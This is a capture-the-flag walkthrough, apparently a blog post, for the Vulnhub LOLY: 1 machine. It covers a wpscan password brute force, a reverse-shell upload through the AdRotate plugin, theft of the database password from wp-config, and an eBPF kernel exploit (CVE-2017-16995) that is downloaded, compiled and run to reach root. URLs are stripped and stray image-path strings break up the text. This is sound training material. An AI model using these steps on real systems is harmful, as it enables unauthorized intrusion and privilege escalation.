Difficulty: Easy
Tested: VMware Workstation 15.x Pro (This works better with VMware rather than VirtualBox)
Goal: Get the root shell i.e.(root@localhost:~#) and then obtain flag under /root).

This is LOLY: 1 from Vulnhub.


We’ve got one port only - HTTP on Port 80.


Really the only thing on the webserver is a Wordpress installation, and we find it easily with gobuster. wpscan reveals only a single user (loly), and easily finds the password:

root@kali:/opt/vulnhub/loly# wpscan --url -U 'loly' -P /usr/share/seclists/Passwords/probable-v2-top12000.txt

// stuff removed for brevity

[+]Performing password attack on Xmlrpc against 1 user/s
[SUCCESS] - loly / fernando
Trying loly / barcelona Time: 00:00:04 <==                                                                                                     > (345 / 12990)  2.65%  ETA: ??:??:??

[!] Valid Combinations Found:
 | Username: loly, Password: fernando

So I logged in, expecting to perhaps upload a plugin zip file, or edit a theme or something. But, no.

We have several plugins (AdRotate, Helly Dolly and Akismet) - only AdRotate is ‘unusual’. It’s version Searchsploit reveals SQLi vulnerabilities in several older versions - all version 3.x.

We have several themes, including Feminine Style and Virtue, but these don’t seem to be vulnerable.

We can’t upload a new plugin (the button to do so is missing), and I’m … stuck.

After a while I consult a writeup to see what the move is. It turns out that the AdRotate plugin can be exploited by uploading a shell in a ZIP file format as a ‘banner image’. PHP files are blacklisted but ZIP is okay; the plugin automatically unzips the file and places it in the banners directory:

Navigating to this file triggers the shell.

I did the rest of the box by myself, but then I returned to this point. I tried googling for this exploit method, but the only references I found were in Loly writeups! And here’s what they had to say about it:

  1. w found a vulnerable plugin( AdRotate ) we upload a shell bycompressing our payload a zip file as a new banners file
  2. i found a way to upload a shell &execute it
  3. Make sure that first, we need to upload the reverse shell as zip format
  4. For this, I saw that we have a plugin named “AdRotate” installed where we can upload a zip file

Huh? None of these say how they knew this plugin was vulnerable, or how to exploit it, or provide a link to a CVE, blog post or anything else. I understand my writeups aren’t always detailed; they aren’t meant to be. But I don’t quite understand how allof the ones I looked at just somehow magically knew that this method was available with AdRotate? Presumably there was an article about it somewhere; maybe my google-fu has failed me.


Anyway, I’m on as loly.

I run linpeas and find a password then su loly.

[+] Searching Wordpress wp-config.php files
wp-config.php files found:
/var/www/html/wordpress/wp-config.phpdefine( 'DB_NAME', 'wordpress' );
define( 'DB_USER', 'wordpress' );
define( 'DB_PASSWORD', 'lolyisabeautifulgirl' );
define( 'DB_HOST', 'localhost' );

www-data@ubuntu:/dev/shm$ which python3which python3
www-data@ubuntu:/dev/shm$ python3 -c 'import pty;pty.spawn("/bin/bash");'
python3 -c 'import pty;pty.spawn("/bin/bash");'
www-data@ubuntu:/dev/shm$ su loly
su loly
Password: lolyisabeautifulgirl



Linpeas also says we have an older kernel, which is true.

I obtain and run the Linux Exploit Suggester script:

loly@ubuntu:/dev/shm$ wget -O
<t-suggester/master/ -O
--2020-11-23 01:33:05--
Resolving (
Connecting to (||:443... connected.
HTTP request sent, awaiting response... 200 OK
Length: 85113 (83K) [text/plain]
Saving to: ‘’              100%[===>]  83.12K  --.-KB/s    in 0.02s

2020-11-23 01:33:05 (5.12 MB/s) - ‘’ saved [85113/85113]

loly@ubuntu:/dev/shm$ chmod +x
chmod +x
loly@ubuntu:/dev/shm$ ./

Available information:

Kernel version: 4.4.0
Architecture: x86_64
Distribution: ubuntu
Distribution version: 16.04
Additional checks (CONFIG_*, sysctl entries, custom Bash commands): performed
Package listing: from current OS

It suggests several as highly probable. I usually don’t have much luck with kernel exploits, but let’s go:

[+] [CVE-2017-16995] eBPF_verifier

   Exposure: highly probable
   Tags: debian=9.0{kernel:4.9.0-3-amd64},fedora=25|26|27,ubuntu=14.04{kernel:4.4.0-89-generic},[ ubuntu=(16.04|17.04)]{kernel:4.(8|10).0-(19|28|45)-generic}
   Download URL:
   Comments: CONFIG_BPF_SYSCALL needs to be set && kernel.unprivileged_bpf_disabled != 1


loly@ubuntu:/dev/shm$ wget
--2020-11-23 01:36:25--
Resolving (
Connecting to (||:443... connected.
HTTP request sent, awaiting response... 200 OK
Length: unspecified [application/txt]
Saving to: ‘45010’

45010                   [  <=>               ]  13.41K  45.2KB/s    in 0.3s

2020-11-23 01:36:28 (45.2 KB/s) - ‘45010’ saved [13728]loly@ubuntu:/dev/shm$ mv 45010 xx.c
mv 45010 xx.c
loly@ubuntu:/dev/shm$ gcc xx.c -o xx
gcc xx.c -o xx
loly@ubuntu:/dev/shm$ ./xx
[.] t(-_-t) exploit for counterfeit grsec kernels such as KSPP and linux-hardened t(-_-t)
[.]   ** This vulnerability cannot be exploited at all on authentic grsecurity kernel **
[*] creating bpf map
[*] sneaking evil bpf past the verifier[*] creating socketpair()
[*] attaching bpf backdoor to socket
[*] skbuff => ffff880035047000
[*] Leaking sock struct from ffff8800355a21c0
[*] Sock->sk_rcvtimeo at offset 472
[*] Credstructure at ffff8800356718c0
[*] UID from cred structure: 1000, matches the current: 1000
[*] hammering cred structure at ffff8800356718c0
[*] credentials patched, launching shell...
# id
uid=0(root) gid=0(root) groups=0(root),4(adm),24(cdrom),30(dip),46(plugdev),114(lpadmin),115(sambashare),1000(loly)
# cd /root
cd /root
# ls
# cat root.txt
cat root.txt____               ____ ____  ____
 /___| _   _ _ __  / ___/ ___||  _ \
 \___ \| | | | '_ \| |   \___ \| |_) |
  ___) | |_| | | | | |______) |  _ <
 |____/ \__,_|_| |_|\____|____/|_| \_\Congratulations. I'm BigCityBoy